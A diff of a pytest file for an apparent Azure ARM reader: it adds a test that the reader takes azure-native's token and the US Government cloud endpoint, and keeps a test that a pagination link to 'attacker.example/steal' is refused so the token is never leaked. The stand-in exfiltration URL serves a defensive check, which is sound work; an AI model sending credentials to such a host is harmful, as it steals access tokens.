@@ -194,7 +194,7 @@ def test_the_live_reader_sends_the_token_follows_next_links_and_reports_arms_err
 def test_the_token_goes_to_arm_alone_and_is_never_shown(arm_server: tuple[str, list[str]]) -> None:
     """A next page on another host is not followed with the token, and the reader's repr (in a
     traceback, a log) does not carry it."""
-    endpoint, seen = arm_server
+    endpoint, _ = arm_server
     assert "t0ken" not in repr(LiveArm("t0ken", endpoint))
     with pytest.raises(ArmError) as err:  # every page, a nextLink too, is read through _get_url
         LiveArm("t0ken", endpoint)._get_url("https://attacker.example/steal?page=2")
@@ -208,3 +208,25 @@ def test_the_check_takes_at_most_its_time_budget(arm_server: tuple[str, list[str
         arm.get(f"/subscriptions/{SUB}/locations", "2022-12-01")
     assert str(err.value) == f"reading {endpoint} took longer than 0 s (1 calls)"
     assert seen == [], "a call was made past the budget"
+
+
+def test_in_a_program_arm_is_read_with_azure_natives_token_at_its_clouds_endpoint(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """What a real `pulumi preview` does (azure-native's invokes stood in for): the token and the
+    subscription from the provider, ARM's endpoint from its `environment`."""
+    from types import SimpleNamespace
+
+    import pulumi
+    from pulumi_azure_native import authorization
+
+    from kaito_aks.azure.arm import arm_reader
+
+    monkeypatch.setattr(authorization, "get_client_config", lambda: SimpleNamespace(subscription_id=SUB))
+    monkeypatch.setattr(authorization, "get_client_token", lambda: SimpleNamespace(token="t0ken"))
+    monkeypatch.setattr(pulumi.Config, "get", lambda self, key: "usgovernment" if key == "environment" else None)
+    monkeypatch.delenv("KAITO_AKS_ARM_ENDPOINT", raising=False)
+    arm, subscription = arm_reader()
+    assert subscription == SUB
+    assert isinstance(arm, LiveArm)
+    assert (arm.token, arm.endpoint) == ("t0ken", "https://management.usgovernmentcloudapi.net")
